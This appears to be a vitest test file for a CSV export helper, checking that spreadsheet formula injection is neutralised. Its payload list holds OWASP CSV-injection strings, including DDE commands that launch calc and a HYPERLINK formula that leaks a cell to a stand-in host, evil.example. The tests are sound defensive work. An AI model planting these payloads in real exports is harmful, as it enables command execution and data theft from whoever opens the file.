import { describe, expect, it } from "vitest";
import { csvCell, csvDocument } from "./csv";

// OWASP's CSV injection page, its payloads and their variants (a formula after a separator, after a quote, after a
// tab or a line break), and the full-width forms.
const attacks = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Error: please click for further information")',
  '=1+2";=1+2',
  "=1+2'\" ;,=1+2",
  "a;=HYPERLINK(x)",
  "a,=1+1",
  "a, =1+1",
  "a|=1+1",
  "x\t=cmd",
  "\t=1+1",
  "\r=1+1",
  "\0=1+1",
  "line\n=1+1",
  "line\r\n@SUM(1)",
  'a;"=1+1',
  '"=1+1',
  "＝1+1",
  "a;＋1",
  "－1",
  "＠SUM(1)",
];

/** What a spreadsheet may start a cell with, were it not defused. */
const formula = /^[=+\-@\t\r\0＝＋－＠]/;

/** The cells a spreadsheet may make of `line`, splitting on `separator` and ignoring quotes, spaces trimmed. */
const cellsSplitOn = (line: string, separator: string) =>
  line.split(separator).map((cell) => cell.replace(/^[ "]*/, ""));

/** RFC 4180's reading of one field: the text between the quotes, doubled quotes single again. */
const read = (field: string) => field.slice(1, -1).replaceAll('""', '"');

describe("csvCell", () => {
  it.each(attacks)("defuses %j wherever a spreadsheet may start a cell", (attack) => {
    const field = csvCell(attack);
    expect(field).toMatch(/^"[\s\S]*"$/);
    for (const separator of [",", ";", "\t", "|", "\n", "\r"]) {
      for (const cell of cellsSplitOn(field, separator)) {
        expect(cell, `split on ${JSON.stringify(separator)}`).not.toMatch(formula);
      }
    }
    // What it says is kept, an apostrophe before each formula.
    expect(read(field).replaceAll("'", "")).toBe(attack.replaceAll("'", ""));
  });

  it("writes OWASP's examples as its guidance does, and a formula after a separator defused too", () => {
    expect(csvCell('=1+2";=1+2')).toBe(`"'=1+2"";'=1+2"`);
    expect(csvCell("=1+2'\" ;,=1+2")).toBe(`"'=1+2'"" ;,'=1+2"`);
    expect(csvCell("x\t=cmd")).toBe(`"x\t'=cmd"`);
    expect(csvCell("\t=1")).toBe(`"'\t'=1"`);
  });

  it("quotes every text, and leaves ordinary text as it was", () => {
    for (const text of [
      "",
      "Plain",
      "A title, with a comma",
      'Say "hi"',
      "2 - 1 @ noon",
      "demo-1",
      "1+1=2",
      "e-mail",
    ]) {
      const field = csvCell(text);
      expect(field).toBe(`"${text.replaceAll('"', '""')}"`);
      expect(read(field)).toBe(text);
    }
  });

  it("writes the server's own numbers, flags and instants as they are", () => {
    expect(csvCell(-1)).toBe("-1");
    expect(csvCell(42)).toBe("42");
    expect(csvCell(true)).toBe("true");
    expect(csvCell(new Date("2025-05-07T09:30:00.000Z"))).toBe("2025-05-07T09:30:00.000Z");
  });
});

describe("csvDocument", () => {
  it("writes a header line and a line per row, each ended by CRLF", () => {
    const columns = ["title", "votes"] as const;
    const rows = [
      { title: "a;=1+1", votes: 3 },
      { title: "Plain", votes: 0 },
    ];
    expect(csvDocument(columns, rows)).toBe(`title,votes\r\n"a;'=1+1",3\r\n"Plain",0\r\n`);
    expect(csvDocument(columns, [])).toBe("title,votes\r\n");
  });
});
